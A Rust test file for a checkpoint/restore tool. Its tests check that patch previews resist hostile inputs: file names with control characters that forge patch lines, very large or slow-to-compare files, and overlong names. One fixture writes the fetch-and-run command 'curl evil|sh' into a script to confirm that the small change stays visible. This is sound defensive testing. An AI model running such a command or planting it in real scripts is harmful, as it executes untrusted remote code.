//! Patches of hostile files. A user reads them before a restore.

use std::time::Duration;

use super::super::patch::joined;
use super::*;

/// The patch has the name on one line. The control: the unescaped name forges lines.
#[tokio::test]
async fn x15_file_name_does_not_forge_lines_of_a_patch() {
    let attacks: [(&str, &str); 3] = [
        ("f\n+++ b_real\n@@ -1 +1 @@\n-x", "f<U+000A>+++ b_real<U+000A>@@ -1 +1 @@<U+000A>-x"),
        ("f\r+++ b_real", "f<U+000D>+++ b_real"),
        ("f\u{1b}[2K\t\u{202e}", "f<U+001B>[2K<U+0009><U+202E>"),
    ];
    for (name, shown) in attacks {
        assert!(format!("+++ b/{name}").contains(|c: char| c.is_control()), "the control");
        let mut scene = CheckpointFixture::new();
        scene.write(1, name, "1\n").await;
        assert_eq!(scene.plan(1).patch(), format!("--- a/{shown}\n+++ /dev/null\n@@ -1 +0,0 @@\n-1\n"));
        let [saved] = &*scene.checkpoints.of_session(session()).unwrap() else { panic!() };
        let [file] = &*scene.checkpoints.examine(saved, &mut Patches::default()) else { panic!() };
        assert_eq!(file.patch, format!("--- /dev/null\n+++ b/{shown}\n@@ -0,0 +1 @@\n+1\n"));
    }
}

/// Lines of a file that CR separates are one line of its patch, as its header counts it. The control: LF separates them.
#[tokio::test]
async fn x15_line_of_a_patch_ends_only_at_a_line_feed() {
    let attacks: [(&str, &str, &str); 3] = [
        ("a\rb\n", "a\rB\n", "@@ -1 +1 @@\n-a\rB\n+a\rb\n"),
        ("a\r", "b", "@@ -1 +1 @@\n-b\n\\ No newline at end of file\n+a\r\n\\ No newline at end of file\n"),
        ("a\nb\n", "a\nB\n", "@@ -1,2 +1,2 @@\n a\n-B\n+b\n"),
    ];
    for (before, written, hunk) in attacks {
        let mut scene = CheckpointFixture::new();
        fs::write(scene.at("f"), before).unwrap();
        scene.write(1, "f", written).await;
        assert_eq!(scene.plan(1).patch(), format!("--- a/f\n+++ b/f\n{hunk}"));
    }
}

/// Returns lines of one letter each, whose order depends on `seed`.
fn letters(seed: u32, lines: u32) -> String {
    let next = |state: u32| state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
    let states = std::iter::successors(Some(seed), |state| Some(next(*state)));
    let letter = |state: u32| char::from(b'a' + u8::try_from(state >> 29).unwrap());
    states.skip(1).take(lines as usize).flat_map(|state| [letter(state), '\n']).collect()
}

/// An exact comparison takes minutes. The control: a file of few lines is compared exactly.
#[tokio::test]
async fn x15_comparing_unlike_files_takes_bounded_time() {
    let mut scene = CheckpointFixture::new();
    let names = ["large1", "large2", "large3"];
    for name in names {
        fs::write(scene.at(name), letters(1, 100_000)).unwrap();
        scene.write(1, name, &letters(2, 100_000)).await;
    }
    scene.write(2, "a", "a by 2\n").await;
    let begun = tokio::time::Instant::now();
    let plan = scene.plan(1);
    for saved in scene.checkpoints.of_session(session()).unwrap() {
        scene.checkpoints.examine(&saved, &mut Patches::default());
    }
    assert!(begun.elapsed() < Duration::from_secs(60), "{:?}", begun.elapsed());
    assert_eq!(plan.changes.len(), names.len());
    let patch = plan.patch();
    let count = |sign: char| patch.lines().filter(|line| line.starts_with(sign)).count();
    assert_eq!(count('-'), count('+'), "lines are missing");
    assert_eq!(scene.plan(2).patch(), "--- a/a\n+++ b/a\n@@ -1 +1 @@\n-a by 2\n+a before\n");
}

/// The lines of six hundred almost equal files took minutes, since only their comparison had a limit. The control: the first
/// file, which is compared although little time is left.
#[test]
fn x15_files_are_not_compared_without_time() {
    let mut patches = Patches::within(Duration::from_nanos(1));
    let shown = [(); 2].map(|()| {
        let (before, after) = (FileState::Other, FileState::Other);
        let change = FileChange { root: "/".into(), path: "f".to_owned(), created_dir: None, before, after };
        patches.patch("f", &change, (b"a\n", b"b\n")).text
    });
    let left_out = "--- a/f\n+++ b/f\n(too long to show: 2 bytes before, 2 bytes after)\n";
    assert_eq!(shown, ["--- a/f\n+++ b/f\n@@ -1 +1 @@\n-a\n+b\n", left_out]);
}

/// Two hundred files of a mebibyte take a gigabyte as an escaped patch. The control: a small file next to them is shown.
#[tokio::test]
async fn x15_patch_of_many_large_files_is_bounded() {
    let attacks: [(&str, usize); 3] = [("\n", 1 << 20), ("\u{1}", 1 << 18), ("\u{1}\n", 1 << 18)];
    for (unit, times) in attacks {
        let mut scene = CheckpointFixture::new();
        let names: Vec<String> = (0..12).map(|n| format!("f{n:02}")).collect();
        let long = unit.repeat(times);
        for name in &names {
            fs::write(scene.at(name), &long).unwrap();
            scene.write(1, name, "x").await;
        }
        scene.write(1, "a", "a by 1\n").await;
        let plan = scene.plan(1);
        assert_eq!(plan.changes.len(), 13);
        let patch = plan.patch();
        assert!(patch.starts_with("--- a/a\n+++ b/a\n@@ -1 +1 @@\n-a by 1\n+a before\n"), "the control");
        assert!(patch.len() < 4 << 20 && crate::escape::exact(&patch).len() < 5 << 20, "{unit:?}");
        let (x, before) = (Hash::of(b"x"), Hash::of(long.as_bytes()));
        for name in &names {
            let line = format!(
                "+++ b/{name}\n(too long to show: 1 bytes ({x}) before, {} bytes ({before}) after)\n",
                long.len()
            );
            assert!(patch.contains(&line), "{line}");
        }
        let all = scene.checkpoints.of_session(session()).unwrap();
        let mut patches = Patches::default();
        let files: Vec<_> = all.iter().flat_map(|saved| scene.checkpoints.examine(saved, &mut patches)).collect();
        let shown = files.iter().map(|file| file.patch.len()).sum::<usize>();
        assert!(files.len() == 13 && shown < 5 << 20, "{shown}");
    }
}

/// Large files that are not shown, or take all the time, come before a small one. The control: few of them are shown.
#[tokio::test]
async fn x15_large_files_hide_no_small_one_of_a_restore() {
    let attacks: [(usize, String, usize); 3] =
        [(8, "\u{1}".repeat(1 << 20), 8), (8, letters(1, 100_000), 0), (1, "\u{1}".repeat(1 << 10), 0)];
    for (files, long, least_hidden) in attacks {
        let mut scene = CheckpointFixture::new();
        for name in (0..files).map(|n| format!("f{n}")) {
            fs::write(scene.at(&name), &long).unwrap();
            scene.write(1, &name, "x").await;
        }
        fs::write(scene.at("z.sh"), "curl evil|sh\n").unwrap();
        scene.write(1, "z.sh", "#!/bin/sh\n").await;
        let plan = scene.plan(1);
        let shown = "--- a/z.sh\n+++ b/z.sh\n@@ -1 +1 @@\n-#!/bin/sh\n+curl evil|sh\n";
        assert!(plan.patch().ends_with(shown), "files are not ordered by name, or the small one is hidden");
        assert_eq!((plan.changes.len(), plan.patches.len()), (files + 1, files + 1));
        let hidden = plan.patches.iter().filter(|patch| patch.hidden.is_some()).count();
        assert!(hidden >= least_hidden && (files > 1 || hidden == 0), "{hidden}");
    }
}

/// Names of files are up to 4 KiB long, and each of their characters may be escaped. The control: short names.
#[tokio::test]
async fn x15_names_in_a_patch_are_bounded() {
    let name_all = |name: &str| {
        let mut patches = Patches::default();
        let change = |path: String| FileChange {
            root: "/".into(),
            path,
            created_dir: None,
            before: FileState::Absent,
            after: FileState::Absent,
        };
        let paths = (0..1_000).map(|n| format!("{name}{n:03}"));
        let named = |path: String| {
            patches.patch(&path, &FileChange { before: FileState::Other, ..change(path.clone()) }, (b"\xff", b""))
        };
        joined(&paths.map(named).collect::<Vec<_>>())
    };
    let long = name_all(&"\n".repeat(4_000));
    assert!(long.len() < 2 << 20, "{}", long.len());
    assert!(long.ends_with(" more files: GET /v1/sessions/ID/restore names all)\n"));
    let short = name_all("f");
    assert_eq!(short.matches("(not text: 1 bytes before, 0 bytes after)\n").count(), 1_000);
    assert!(short.ends_with("after)\n"));
}
